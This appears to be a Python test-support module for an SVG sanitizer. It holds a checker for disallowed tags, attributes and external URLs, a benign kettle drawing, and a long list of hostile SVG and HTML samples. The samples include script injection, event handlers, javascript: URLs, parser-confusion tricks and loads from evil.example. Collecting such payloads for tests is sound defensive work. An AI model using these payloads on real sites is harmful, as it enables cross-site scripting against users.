"""Checks of SVG drawings, written independently of the sanitizer, and drawings that are valid, broken or hostile."""

from __future__ import annotations

import re

import nh3
from tests.support.html_checks import Checker

_TAGS = set(
    """svg g path rect circle ellipse line polyline polygon text tspan textpath title desc use defs symbol marker
    pattern mask clippath lineargradient radialgradient stop""".split()
)
_NO_ATTRIBUTES = re.compile(
    r"on|style$|src|xmlns|xml|xlink|data-|hx-|attributename|values|from$|to$|begin|filter|action"
)


class _SVGChecker(Checker):
    """Checks a drawing."""

    def __init__(self, region: str) -> None:
        super().__init__()
        self.prefix = f"g-{region}."
        self.roots = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if not self.open:
            self.roots += 1
            if tag != "svg" or self.roots > 1:
                self.faults.append(f"<{tag}> is outside of the drawing")
        if tag not in _TAGS:
            self.faults.append(f"<{tag}> is not allowed")
        if len(attrs) != len({name for name, _ in attrs}):
            self.faults.append(f"<{tag}> has an attribute twice")
        self.open.append(tag)
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if _NO_ATTRIBUTES.match(name):
            self.faults.append(f"<{tag} {name}> is not allowed")
        if name == "id" and not value.startswith(self.prefix):
            self.faults.append(f"the id {value!r} is not in its region")
        if name == "href" and not (tag in {"use", "textpath"} and value.startswith("#" + self.prefix)):
            self.faults.append(f"the URL {value!r} leads out of the drawing")
        if name == "class" and value not in {"drawing", "unsettled"}:
            self.faults.append(f"the class {value!r} is not allowed")
        if name not in {"id", "aria-labelledby", "href"}:
            rest = re.sub(rf"url\(#{re.escape(self.prefix)}[^()\s]+\)", "", value)
            if re.search(r"url|image|src\(|[:;@\\<>\"']", rest, re.I):
                self.faults.append(f"<{tag} {name}={value!r}> may lead elsewhere")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> closes no element")

    def handle_data(self, data: str) -> None:
        if data.strip() and (not self.open or self.open[-1] not in {"text", "tspan", "textpath", "title", "desc"}):
            self.faults.append(f"the text {data!r} is misplaced")


_reader = nh3.Cleaner(
    tags={tag for name in _TAGS for tag in (name, *({"clipPath", "linearGradient", "radialGradient", "textPath"}))},
    generic_attribute_prefixes={chr(c) for c in range(97, 123)},
    clean_content_tags=set(),
    link_rel=None,
    attributes={"*": {"class", "href", "id"}},
)


def drawing_faults(html: str, region: str = "art") -> list[str]:
    """Return what is wrong with a drawing that should be one safe and balanced element."""
    if not html:
        return []
    html = html.replace("\r\n", "\n").replace("\r", "\n")
    checker = _SVGChecker(region)
    checker.feed(html)
    checker.close()
    found = checker.faults + [f"<{tag}> is not closed" for tag in checker.open]
    # html5ever parses as browsers do. What it serializes unchanged, no browser rearranges.
    again = _reader.clean(html)
    if not found and re.findall(r"</?\w+", again) != re.findall(r"</?\w+", html):
        found.append(f"a browser would parse it as {again!r}")
    return found


KETTLE = """<svg viewBox="0 0 120 80">
<title>A kettle &amp; steam</title>
<desc>It boils.</desc>
<defs><linearGradient id="warm"><stop offset="0" stop-color="red"/></linearGradient></defs>
<g id="pot" fill="none" stroke="black"><path d="M35 65 L85 65 L80 35 L40 35 Z"/><circle cx="60" cy="31" r="3"/></g>
<polyline points="1,2 3,4 5,6" fill="url(#warm)"/>
<use href="#pot" x="10"/>
<text x="3" y="4">Tea <tspan font-weight="bold">time</tspan></text>
</svg>"""

HOSTILE = [
    "<script>alert(1)</script>",
    "<script href='//evil.example/x.js'/>",
    "<script xlink:href='data:,alert(1)'></script>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example) }</style>",
    "<style><![CDATA[*{fill:url(//evil.example)}]]></style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<rect onload=alert(1) onclick='alert(1)' ONFOCUS=alert(1) onbegin=alert(1) width=9 height=9 tabindex=0 />",
    "<rect style='fill:url(//evil.example);behavior:url(x);background:url(\"//evil.example\")' />",
    "<rect style='fill: ur\\6c(//evil.example)' /><rect fill='ur\\6c(//evil.example)'/>",
    "<rect fill='url(//evil.example#x)'/><rect fill=url(https://evil.example/p.svg#x) />",
    "<rect fill='url(#a) url(//evil.example)'/><rect fill='image-set(\"//evil.example\" 1x)'/>",
    "<rect fill='URL( //evil.example )'/><rect mask='url(data:image/svg+xml,x#y)'/>"
    "<rect clip-path='url(&quot;//e#x&quot;)'/>",
    "<rect filter='url(//evil.example#f)'/><rect cursor='url(//evil.example),auto'/>",
    "<filter id=f><feImage href='//evil.example/x.png' xlink:href='//evil.example/y.png'/></filter>",
    "<image href='//evil.example/x.png' width=9 height=9 onerror=alert(1) />",
    "<image xlink:href='data:image/svg+xml,<svg onload=alert(1)>'/>",
    "<use href='//evil.example/x.svg#y'/><use xlink:href='https://evil.example/x.svg#y'/>",
    "<use href='data:image/svg+xml,<svg id=x onload=alert(1) xmlns=\"http://www.w3.org/2000/svg\"/>#x'/>",
    "<use href='data:image/svg+xml;base64,PHN2Zy8+#x'/><use href='blob:x#y'/><use href='javascript:alert(1)'/>",
    "<use href='/wiki/x#y'/><use href='?x#y'/><use href='#\" onload=alert(1) x=\"'/>",
    "<a href='javascript:alert(1)'><text y=9>x</text></a><a xlink:href='javascript:alert(1)'><rect/></a>",
    "<a href='//evil.example' target=_top><rect width=9 height=9 /></a>",
    "<a><animate attributeName=href values='javascript:alert(1)'/><text>x</text></a>",
    "<animate attributeName=href to='//evil.example' begin=0s /><set attributeName=href to='javascript:alert(1)'/>",
    "<set attributeName=onmouseover to='alert(1)'/><animate onbegin=alert(1) attributeName=x dur=1s />",
    "<animateTransform onend=alert(1) attributeName=transform /><animateMotion>"
    "<mpath href='//evil.example#x'/></animateMotion>",
    "<discard onbegin=alert(1) /><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)"
    "</handler>",
    "<foreignObject><iframe src='javascript:alert(1)'></iframe><script>alert(1)</script></foreignObject>",
    "<foreignobject width=99 height=99><body xmlns='http://www.w3.org/1999/xhtml' onload=alert(1)>"
    "<img src=//evil.example></body></foreignobject>",
    "<switch><foreignObject requiredExtensions=x><form><button formaction='javascript:alert(1)'>x</button>"
    "</form></foreignObject></switch>",
    "<title><img src=x onerror=alert(1)></title><desc><script>alert(1)</script></desc>",
    "<title><style><!--</title><img src=x onerror=alert(1)>--></style>",
    "<desc><svg><style><img src=x onerror=alert(1)></style></svg></desc>",
    "<title></svg><script>alert(1)</script></title>",
    "</svg><script>alert(1)</script><svg>",
    "</title></desc></svg></svg><img src=x onerror=alert(1)>",
    "<p><img src=x onerror=alert(1)></p>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<g><b><img src=x onerror=alert(1)></b></g>",
    "<text><![CDATA[</text></svg><script>alert(1)</script>]]></text>",
    "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text><text>&lt/text&gt&ltimg src=x onerror=alert(1)&gt</text>",
    "<!DOCTYPE svg [<!ENTITY x '<script>alert(1)</script>'>]><text>&x;</text>",
    "<!DOCTYPE x SYSTEM 'https://evil.example/x.dtd'><?xml-stylesheet href='https://evil.example/x.css'?>",
    "<!--><script>alert(1)</script>--><!-- --!><img src=x onerror=alert(1)> -->",
    "<g xml:base='//evil.example/'><use href='#x'/></g><g xmlns:xlink='x'><use xlink:href='//evil.example#x'/></g>",
    "<svg xmlns='http://www.w3.org/1999/xhtml'><img src=x onerror=alert(1)></svg>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
    "<svg:script>alert(1)</svg:script><x:a xmlns:x='http://www.w3.org/2000/svg' href='javascript:alert(1)'/>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data='//evil.example'></object>"
    "<embed src='//evil.example'>",
    "<audio src=//evil.example onerror=alert(1)></audio><video poster=//evil.example></video><canvas/>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>"
    "<base href=//evil.example>",
    "<linearGradient id=a xlink:href='//evil.example#g'/><pattern id=b href='//evil.example#p'/><mpath href='#x'/>",
    "<path d='M0 0 L9 9' marker-end='url(//evil.example#m)'/><text font-family='x;background:url(//e)'>x</text>",
    "<textPath href='//evil.example#x'>x</textPath><tref xlink:href='//evil.example#x'/>"
    "<glyphRef href='//evil.example'/>",
    "<font-face-uri href='//evil.example'/><color-profile href='//evil.example'/><cursor xlink:href='//evil.example'/>",
    "<g class='region' id='region-art' data-region='art' data-page='/x' hx-get='/x' hx-trigger='load'><rect/></g>",
    "<rect id='main'/><rect id='g-other.x'/><rect id='\"><script>alert(1)</script>'/>",
    "<rect width='9' height=\"9' onload='alert(1)\" fill=`url(//evil.example)` />",
    "<rect/onload=alert(1)/fill=red/><rect\tonload\n=\x0calert(1)>",
    "<rect fill=red/onload=alert(1)><circle r=1 </svg><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</script><rect o\x00nload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><textarea><p title='</textarea>"
    "<img src=x onerror=alert(1)>'>",
    "<template><rect onload=alert(1)></template><plaintext><script>alert(1)</script>",
    "<g id=a><use href='#a'/><use href='#a'/></g>",
    "<pattern id=p width=1 height=1><rect width=9 height=9 fill='url(#p)'/></pattern><rect fill='url(#p)'/>",
]  # fmt: skip
"""Attacks that were found in drawings, one kind in each."""
